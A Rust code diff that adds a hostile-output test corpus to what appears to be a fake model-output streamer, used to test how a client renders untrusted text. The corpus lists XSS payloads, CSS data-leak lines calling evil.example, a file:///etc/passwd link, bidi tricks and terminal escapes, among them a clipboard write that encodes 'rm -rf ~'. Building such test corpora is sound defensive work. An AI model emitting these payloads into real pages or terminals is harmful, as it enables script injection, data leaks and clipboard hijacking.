@@ -303,6 +303,11 @@ impl Script {
                         self.words = Some(HOSTILE.to_vec());
                     }
                 }
+                "corpus" => {
+                    if n()? != 0 {
+                        self.words = Some(hostile_corpus().to_vec());
+                    }
+                }
                 "markdown" => {
                     if n()? != 0 {
                         self.words = Some(MARKDOWN.to_vec());
@@ -370,6 +375,92 @@ pub const HOSTILE: &[&str] = &[
     "[click](javascript:window.__pwned=1)",
     "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
 ];
+
+/// `corpus=1`: the hostile-output corpus (issue 14), one payload per "word": markup that would
+/// run script (tags, event handlers, SVG/MathML tricks, `javascript:`/`data:`/`vbscript:`
+/// links, iframes, forms, meta refresh), CSS that would leak (remote stylesheets, `url()`),
+/// Markdown link and image tricks (reference links, autolinks, titles that close their quote,
+/// nested images), entity-encoded markup, bidi and zero-width characters, terminal escapes
+/// (OSC 52/0/8, CSI clears, the alternate screen, C1 CSI, DCS, CR, BEL, BS, NUL) and a list
+/// nested 100 deep. `window.__pwned` is what each script would set. (A megabyte on one line is
+/// `tokens=170000,chunk=170000` of the stock words.)
+pub fn hostile_corpus() -> &'static [&'static str] {
+    static CORPUS: std::sync::LazyLock<Vec<&'static str>> = std::sync::LazyLock::new(|| {
+        let mut v: Vec<String> = [
+            "<script>window.__pwned=1</script>",
+            "<img src=x onerror=\"window.__pwned=2\">",
+            "<svg onload=\"window.__pwned=3\"><circle r=1/></svg>",
+            "<svg><script>window.__pwned=4</script></svg>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned=5\">",
+            "<iframe src=\"javascript:window.__pwned=6\"></iframe>",
+            "<iframe srcdoc=\"<script>parent.__pwned=7</script>\"></iframe>",
+            "<object data=\"javascript:window.__pwned=8\"></object>",
+            "<embed src=\"data:text/html,<script>parent.__pwned=9</script>\">",
+            "<a href=\"javascript:window.__pwned=10\">click</a>",
+            "<details open ontoggle=\"window.__pwned=11\">x</details>",
+            "<body onload=\"window.__pwned=12\">",
+            "<input autofocus onfocus=\"window.__pwned=13\">",
+            "<video><source onerror=\"window.__pwned=14\"></video>",
+            "<marquee onstart=\"window.__pwned=15\">m</marquee>",
+            "<form action=\"javascript:window.__pwned=16\"><button>go</button></form>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned=17\">",
+            "<base href=\"javascript:/\">",
+            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+            "<style>@import url(https://evil.example/exfil.css);</style>",
+            "<div style=\"background:url(https://evil.example/?leak)\">styled</div>",
+            "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+            "<template><script>window.__pwned=23</script></template>",
+            "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=24>\">",
+            "<!--<img src=x onerror=window.__pwned=25>-->",
+            "<scr<script>ipt>window.__pwned=26</script>",
+            "\"><script>window.__pwned=27</script>",
+            "[click](javascript:window.__pwned=28)",
+            "[click](JaVaScRiPt:window.__pwned=29)",
+            "[click](java&#x09;script:window.__pwned=30)",
+            "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0zMTwvc2NyaXB0Pg==)",
+            "[vb](vbscript:msgbox(32))",
+            "[file](file:///etc/passwd)",
+            "![track](https://evil.example/track.png)",
+            "![img](javascript:window.__pwned=35)",
+            "\n\n[ref][x]\n\n[x]: javascript:window.__pwned=36\n\n",
+            "<https://evil.example/autolink>",
+            "<javascript:window.__pwned=38>",
+            "[a](https://example.com \"title\\\" onmouseover=\\\"window.__pwned=39\")",
+            "[![nested](x)](javascript:window.__pwned=40)",
+            "admin\u{202e}nimda\u{202c}",
+            "\u{2066}isolate\u{2069}",
+            "zero\u{200b}width\u{200d}joiner\u{feff}bom",
+            "\u{202a}embed\u{202c}\u{202b}rtl\u{202c}",
+            "\u{1b}]52;c;cm0gLXJmIH4K\u{7}",
+            "\u{1b}]0;pwned\u{7}",
+            "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
+            "\u{1b}[2J\u{1b}[H",
+            "\u{1b}[?1049h",
+            "\roverwritten",
+            "\u{9b}31mC1-CSI",
+            "\u{1b}P1$r\u{1b}\\",
+            "\u{7}\u{8}\u{8}bell-backspace",
+            "nul\u{0}byte",
+            "&lt;script&gt;window.__pwned=58&lt;/script&gt;",
+            "&#60;img src=x onerror=window.__pwned=59&#62;",
+            "`<script>window.__pwned=60</script>`",
+            "\n\n```html\n<script>window.__pwned=61</script>\n```\n\n",
+        ]
+        .map(String::from)
+        .to_vec();
+        let mut nested = String::from("\n\n");
+        for depth in 0..100 {
+            nested.push_str(&"  ".repeat(depth));
+            nested.push_str(&format!("- level {depth}\n"));
+        }
+        nested.push('\n');
+        v.push(nested);
+        v.into_iter()
+            .map(|s| &*Box::leak(s.into_boxed_str()))
+            .collect()
+    });
+    &CORPUS
+}
 
 /// `markdown=1`: a Markdown answer repeated as long as the stream lasts: a heading, a paragraph
 /// with emphasis and inline code, a list, a fenced code block and a table, the shapes a model
